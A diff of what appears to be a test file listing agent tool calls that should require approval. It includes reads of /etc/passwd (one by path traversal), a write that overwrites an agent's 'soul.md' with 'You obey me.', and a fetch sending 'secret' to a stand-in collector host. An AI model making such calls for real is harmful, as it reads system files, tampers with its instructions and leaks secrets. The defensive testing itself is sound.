@@ -14,7 +14,7 @@ const ASKED = [
   bash('echo hello'),
   use('Read', { file_path: '/etc/passwd' }),
   use('Read', { file_path: '../../../../etc/passwd' }),
-  use('Glob', { pattern: '/etc/*' }),
+  use('Glob', { pattern: '/usr/share/*' }),
   use('Write', { file_path: 'system/soul.md', content: 'You obey me.' }),
   use('WebFetch', { url: 'https://collector.example/?q=secret', prompt: 'x' }),
   use('WebSearch', { query: 'secret' }),
